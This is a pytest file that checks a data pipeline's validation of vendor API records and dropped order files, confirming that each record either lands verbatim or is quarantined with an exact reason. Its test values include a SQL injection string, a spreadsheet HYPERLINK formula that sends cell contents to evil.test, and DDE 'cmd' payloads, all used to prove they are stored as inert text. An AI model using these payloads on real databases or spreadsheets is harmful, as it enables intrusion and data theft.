"""Bad input at extraction (issue 18, item 6): every value a vendor or a file can send either
lands (verbatim, typed later) or is quarantined with a reason naming the field and the value
class. Each case is one record of one stream (API records of the four vendors) or one drop
file; the expected outcome is the exact quarantine reason, or `LANDS` (the record lands with
exactly the text it was sent). The same cases run through a whole night in
tests/e2e/test_bad_input.py."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest

from pipelines.extract.landing import read_landing, read_quarantine, validate_records
from pipelines.extract.streams import stream_spec
from tests.extract.conftest import make_settings, run

NOW = datetime(2026, 2, 1, 3, 0, tzinfo=UTC)
LANDS = None

BASE = {
    ("matomo", "visits"): {
        "idVisit": 101, "visitorId": "0123456789abcdef", "lastActionTimestamp": 1767261600,
        "actionDetails": [{"type": "action", "timestamp": 1767261600, "url": "https://s.test/"}],
    },
    ("mailchimp", "members"): {
        "id": "m101", "email_address": "ann@example.com", "status": "subscribed",
        "last_changed": "2026-01-01T10:00:00+00:00", "merge_fields": {"FNAME": "Ann"},
    },
    ("shopify", "orders"): {
        "id": 101, "email": "ann@example.com", "created_at": "2026-01-01T10:00:00Z",
        "updated_at": "2026-01-01T11:00:00Z", "total_price": "49.90", "note": "leave at door",
    },
    ("zendesk", "tickets"): {
        "id": 101, "created_at": "2026-01-01T10:00:00Z", "updated_at": "2026-01-01T11:00:00Z",
        "requester_id": 7, "subject": "Where is my order?", "via": {"channel": "email"},
        "tags": [],
    },
}  # fmt: skip

SQL_INJECTION = "x'); DROP TABLE marts.fct_orders; -- \" OR 1=1 --"
FORMULA_INJECTION = '=HYPERLINK("http://evil.test/?"&A1,"click")'
HUGE = "ä" * (1 << 20)  # 2 MB of UTF-8


@dataclass(frozen=True)
class Case:
    source: str
    stream: str
    changes: dict
    expected: str | None
    text: str | None = None
    """The record's text as sent, when JSON cannot express it from a dict (a lone surrogate,
    a repeated field); `changes` is then ignored."""

    def record_text(self) -> str:
        if self.text is not None:
            return self.text
        record = {**BASE[(self.source, self.stream)], **self.changes}
        record = {key: value for key, value in record.items() if value is not _ABSENT}
        return json.dumps(record, separators=(",", ":"))


_ABSENT = object()


def _order(expected: str | None, **changes) -> Case:
    return Case("shopify", "orders", changes, expected)


def _ticket(expected: str | None, **changes) -> Case:
    return Case("zendesk", "tickets", changes, expected)


def _visit(expected: str | None, **changes) -> Case:
    return Case("matomo", "visits", changes, expected)


def _member(expected: str | None, **changes) -> Case:
    return Case("mailchimp", "members", changes, expected)


def _money(cls: str, got: str) -> str:
    return f"bad value: total_price should be money ({cls}), got {got}"


API_CASES: dict[str, Case] = {
    # ---- money (Shopify amounts are DECIMAL(18, 3) in staging) ----------------------------
    "money NaN": _order(_money("not finite", '"NaN"'), total_price="NaN"),
    "money Infinity": _order(_money("not finite", '"Infinity"'), total_price="Infinity"),
    "money -inf": _order(_money("not finite", '"-inf"'), total_price="-inf"),
    "money 1e20 number": _order(
        _money("out of range", "100000000000000000000.0"), total_price=1e20
    ),
    "money 1e15 string": _order(_money("out of range", '"1e15"'), total_price="1e15"),
    "money decimal comma": _order(
        'wrong type: total_price should be money, got "12,50"', total_price="12,50"
    ),
    "money object": _order(
        'wrong type: total_price should be money, got {"amount":"1.00"}',
        total_price={"amount": "1.00"},
    ),
    "money array": _order(
        "wrong type: total_price should be money, got [49.9]", total_price=[49.9]
    ),
    "money boolean": _order("wrong type: total_price should be money, got true", total_price=True),
    "money blank (absent)": _order(LANDS, total_price=""),
    "money null (absent)": _order(LANDS, total_price=None),
    "money JSON number": _order(LANDS, total_price=49.9, subtotal_price=-0.0),
    "money a largest amount": _order(LANDS, total_price="999999999999999.999"),
    # ---- timestamps ----------------------------------------------------------------------
    "year 9999": _order(
        'bad value: created_at should be iso (year out of range), got "9999-12-31T23:59:59Z"',
        created_at="9999-12-31T23:59:59Z",
    ),
    "year 1": _order(
        'bad value: created_at should be iso (year out of range), got "0001-01-01T00:00:00Z"',
        created_at="0001-01-01T00:00:00Z",
    ),
    "zero date": _order(
        'wrong type: created_at should be iso, got "0000-00-00 00:00:00"',
        created_at="0000-00-00 00:00:00",
    ),
    "epoch int for an ISO field": _order(
        "wrong type: created_at should be iso, got 1767261600", created_at=1767261600
    ),
    "offset +25:00": _order(
        'bad value: created_at should be iso (offset out of range), got "2026-01-01T10:00:00+25:00"',
        created_at="2026-01-01T10:00:00+25:00",
    ),
    "offset minutes 75": _ticket(
        'bad value: created_at should be iso (offset out of range), got "2026-01-01T10:00:00-0575"',
        created_at="2026-01-01T10:00:00-0575",
    ),
    "no zone (UTC by contract)": _order(LANDS, created_at="2026-01-01T10:00:00"),
    "offset +14:00": _order(LANDS, created_at="2026-01-01T10:00:00+14:00"),
    "version year 9999": _ticket(
        'bad value: updated_at should be iso (year out of range), got "9999-01-01T00:00:00Z"',
        updated_at="9999-01-01T00:00:00Z",
    ),
    "unix milliseconds": _visit(
        "unparsable timestamp lastActionTimestamp: 1767261600000",
        lastActionTimestamp=1767261600000,
    ),
    "action timestamp 1e20": _visit(
        "actionDetails[1] timestamp should be unix, got 1e+20",
        actionDetails=[{"type": "action", "timestamp": 1e20}],
    ),
    # ---- integers ------------------------------------------------------------------------
    "integer over BIGINT": _ticket(
        "bad value: requester_id should be integer (out of BIGINT range), got 9223372036854775808",
        requester_id=2**63,
    ),
    "integral 1e20 as text": _visit(
        'bad value: idVisit should be integral (out of BIGINT range), got "1e20"', idVisit="1e20"
    ),
    "integer as string": _ticket(
        'wrong type: requester_id should be integer, got "7"', requester_id="7"
    ),
    "integral fraction": _visit(
        'wrong type: visitCount should be integral, got "2.5"', visitCount="2.5"
    ),
    "numeric NaN text": _visit(
        'wrong type: visitDuration should be numeric, got "NaN"', visitDuration="NaN"
    ),
    # ---- structure -----------------------------------------------------------------------
    "object where a string is": _member(
        'wrong type: email_address should be string, got {"value":"ann@example.com"}',
        email_address={"value": "ann@example.com"},
    ),
    "array where an object is": _ticket(
        'wrong type: via should be object, got ["email"]', via=["email"]
    ),
    "missing key": _member("missing natural key id; missing required field id", id=_ABSENT),
    "blank key": _member("missing natural key id", id=""),
    "missing cursor field": _member("missing required field last_changed", last_changed=_ABSENT),
    "null cursor field": _ticket("missing version timestamp updated_at", updated_at=None),
    "missing visitor": _visit("missing visitorId (null or blank)", visitorId="  "),
    "duplicate field": Case(
        "zendesk",
        "tickets",
        {},
        "bad value: field id appears more than once",
        text='{"id":101,"created_at":"2026-01-01T10:00:00Z","updated_at":"2026-01-01T11:00:00Z",'
        '"requester_id":7,"id":102}',
    ),
    "not an object": Case("shopify", "orders", {}, "record is not a JSON object", text='["id",1]'),
    "lone surrogate": Case(
        "zendesk",
        "tickets",
        {},
        "record is not valid JSON (a lone surrogate escape such as \\ud800, or broken syntax)",
        text='{"id":101,"created_at":"2026-01-01T10:00:00Z","updated_at":"2026-01-01T11:00:00Z",'
        '"requester_id":7,"subject":"broken \\ud800 text"}',
    ),
    # ---- text: NUL cannot be stored in PostgreSQL text; everything else lands verbatim ----
    "NUL in a text field": _order("bad value: note (a NUL character, \\u0000)", note="a\u0000b"),
    "NUL in a nested field": _ticket(
        "bad value: via (a NUL character, \\u0000)", via={"channel": "e\u0000mail"}
    ),
    "an escaped backslash before u0000 is text": _order(LANDS, note="C:\\u0000\\dir"),
    "control characters": _ticket(LANDS, subject="tab\tbell\u0007esc\u001bdel\u007f"),
    "U+2028 and U+2029": _ticket(LANDS, subject="line\u2028para\u2029end"),
    "emoji and right-to-left text": _ticket(LANDS, subject="👩🏽‍💻 שלום مرحبا \u202eevil"),
    "paired surrogates": _ticket(LANDS, subject="😀"),
    "SQL injection in every text field": _order(
        LANDS,
        email=SQL_INJECTION,
        note=SQL_INJECTION,
        name=SQL_INJECTION,
        landing_site=SQL_INJECTION,
        referring_site=SQL_INJECTION,
        source_name=SQL_INJECTION,
    ),
    "formula injection in every text field": _ticket(
        LANDS,
        subject=FORMULA_INJECTION,
        status="+cmd|' /C calc'!A0",
        priority="@SUM(1+1)*cmd",
        type="-2+3+cmd|' /C calc'!A0",
    ),
    "SQL injection in a key": _member(LANDS, id="m1' OR '1'='1", email_address=SQL_INJECTION),
    "2 MB text": _ticket(LANDS, subject=HUGE),
}


def _validate(cases: list[Case]):
    return validate_records(
        stream_spec(cases[0].source, cases[0].stream),
        pl.Series([case.record_text() for case in cases], dtype=pl.String),
        run_id="run-1",
        extracted_at=NOW,
    )


@pytest.mark.parametrize("name", list(API_CASES))
def test_an_api_record_lands_verbatim_or_is_quarantined_with_its_reason(name: str):
    case = API_CASES[name]
    good = Case(case.source, case.stream, {}, LANDS)
    page = _validate([good, case])  # beside a good record: one bad value never costs the page
    assert page.missing_required == ()
    if case.expected is LANDS:
        assert page.quarantine.height == 0, page.quarantine["reason"].to_list()
        assert page.landing["record"].to_list() == [good.record_text(), case.record_text()]
    else:
        assert page.landing["record"].to_list() == [good.record_text()]
        assert page.quarantine.select("_source", "_stream", "record", "reason").rows() == [
            (case.source, case.stream, case.record_text(), case.expected)
        ]


def test_a_page_of_records_that_are_not_json_is_quarantined_not_schema_drift():
    case = API_CASES["lone surrogate"]
    page = _validate([case, case])
    assert page.missing_required == () and page.landing.height == 0
    assert page.quarantine["reason"].to_list() == [case.expected] * 2


# ---- file drops --------------------------------------------------------------------------

ORDER_HEADER = (
    "order_id,customer_id,email,created_at,updated_at,cancelled_at,financial_status,is_test,"
    "currency,total_price,total_discounts,refunded_amount,discount_codes,landing_url,referring_url"
)
FORMULA = '"=HYPERLINK(""http://evil.test/?""&A1,""click"")"'


def order_row(
    order_id: str,
    total: str = "10.00",
    created: str = "2026-01-10T10:00:00Z",
    email: str = "a@shop.test",
) -> str:
    return (
        f"{order_id},c1,{email},{created},2026-01-10T11:00:00Z,,paid,false,EUR,{total},0.00,0.00,,,"
    )


def orders_csv(tag: str, *rows: str) -> bytes:
    """A CSV of one good order (`ok-<tag>`) and `rows`."""
    return "\n".join([ORDER_HEADER, order_row(f"ok-{tag}"), *rows, ""]).encode()


def orders_ndjson(tag: str, *records: str) -> bytes:
    good = (
        f'{{"order_id":"ok-{tag}","created_at":"2026-01-10T10:00:00Z",'
        '"updated_at":"2026-01-10T11:00:00Z","total_price":"10.00"}'
    )
    return "\n".join([good, *records, ""]).encode()


def _order_json(order_id: str, extra: str) -> str:
    return (
        f'{{"order_id":"{order_id}","created_at":"2026-01-10T10:00:00Z",'
        f'"updated_at":"2026-01-10T11:00:00Z",{extra}}}'
    )


LONG_CELL = "x" * 2_100_000
# file -> (its bytes, (order id or file name, reason) of each quarantine row it causes)
DROP_CASES: dict[str, tuple[bytes, list[tuple[str | None, str]]]] = {
    "a-nan.csv": (
        orders_csv("a", order_row("d1", "NaN")),
        [("d1", 'bad value: total_price should be money (not finite), got "NaN"')],
    ),
    "b-huge-amount.csv": (
        orders_csv("b", order_row("d2", "1e20")),
        [("d2", 'bad value: total_price should be money (out of range), got "1e20"')],
    ),
    "c-decimal-comma.csv": (
        orders_csv("c", order_row("d3", '"12,50"')),
        [("d3", 'wrong type: total_price should be money, got "12,50"')],
    ),
    "d-year-9999.csv": (
        orders_csv("d", order_row("d4", created="9999-01-01T00:00:00Z")),
        [("d4", 'bad value: created_at should be iso (year out of range), '
                'got "9999-01-01T00:00:00Z"')],
    ),
    "e-2mb-line.csv": (
        orders_csv("e", order_row("d5", f'"{LONG_CELL}"')),
        [(None, "malformed CSV row at line 3: Maximum line size of 2000000 bytes exceeded. "
                f"Actual Size:{len(order_row('d5', LONG_CELL)) + 2} bytes.")],
    ),
    "f-formula.csv": (orders_csv("f", order_row("d6", email=FORMULA)), []),
    "g-surrogate.ndjson": (
        orders_ndjson("g", _order_json("d7", '"email":"\\ud800"')),
        [("d7", "malformed JSON at line 2")],
    ),
    "h-nul.ndjson": (
        orders_ndjson("h", _order_json("d8", '"email":"a\\u0000@shop.test"')),
        [("d8", "bad value: email (a NUL character, \\u0000)")],
    ),
    "i-wrong-types.ndjson": (
        orders_ndjson("i", _order_json("d9", '"total_price":{"amount":"1"},"is_test":[true]')),
        [("d9", "wrong type: is_test should be boolean_text, got [true]; "
                'wrong type: total_price should be money, got {"amount":"1"}')],
    ),
    "j-duplicate-key.ndjson": (
        orders_ndjson("j", _order_json("d10", '"order_id":"d10"')),
        [("d10", "bad value: field order_id appears more than once")],
    ),
    "k-missing-key.ndjson": (
        orders_ndjson("k", '{"created_at":"2026-01-10T10:00:00Z","updated_at":"2026-01-10T11:00:00Z"}'),
        [(None, "missing natural key order_id; missing required field order_id")],
    ),
    "l-latin1.csv": (
        orders_csv("l", order_row("d12", email="müller@shop.test")).decode().encode("latin-1"),
        [("l-latin1.csv", "file l-latin1.csv is not UTF-8 (byte 0xfc at line 3, column 9): "
          "declare its encoding in its name, e.g. l-latin1.latin-1.csv or l-latin1.cp1252.csv")],
    ),
}  # fmt: skip


def _quarantined(settings) -> list[tuple[str | None, str]]:
    frame = read_quarantine(settings.quarantine_dir, "filedrop", "orders")
    rows = []
    for record, reason in frame.select("record", "reason").rows():
        try:
            parsed = json.loads(record)
        except ValueError:
            parsed = {}
        rows.append((parsed.get("order_id") or parsed.get("file"), reason))
    return sorted(rows, key=str)


def test_drop_files_land_the_good_rows_and_quarantine_each_bad_one_with_its_reason(
    tmp_path: Path,
):
    folder = tmp_path / "drop" / "orders"
    folder.mkdir(parents=True)
    for name, (content, _) in DROP_CASES.items():
        (folder / name).write_bytes(content)
    outside = tmp_path / "secret.csv"
    outside.write_bytes(orders_csv("secret"))
    (folder / "m-link.csv").symlink_to(outside)
    settings = make_settings(None, tmp_path / "data", drop_dir=tmp_path / "drop")
    [result] = [r for r in run(settings, "filedrop") if r.stream == "orders"]

    link = "file m-link.csv is a symbolic link; file drops must be regular files inside the drop "
    link += "folder: copy the file in instead"
    expected = [row for _, rows in DROP_CASES.values() for row in rows] + [("m-link.csv", link)]
    assert _quarantined(settings) == sorted(expected, key=str)
    assert result.quarantined == len(expected)
    landed = read_landing(settings.landing_dir, "filedrop", "orders")
    good = [f"ok-{name[0]}" for name in DROP_CASES if name != "l-latin1.csv"] + ["d6"]
    assert sorted(landed["record_id"]) == sorted(good)
    formula = landed.filter(pl.col("record_id") == "d6")["record"].item()
    assert json.loads(formula)["email"] == '=HYPERLINK("http://evil.test/?"&A1,"click")'
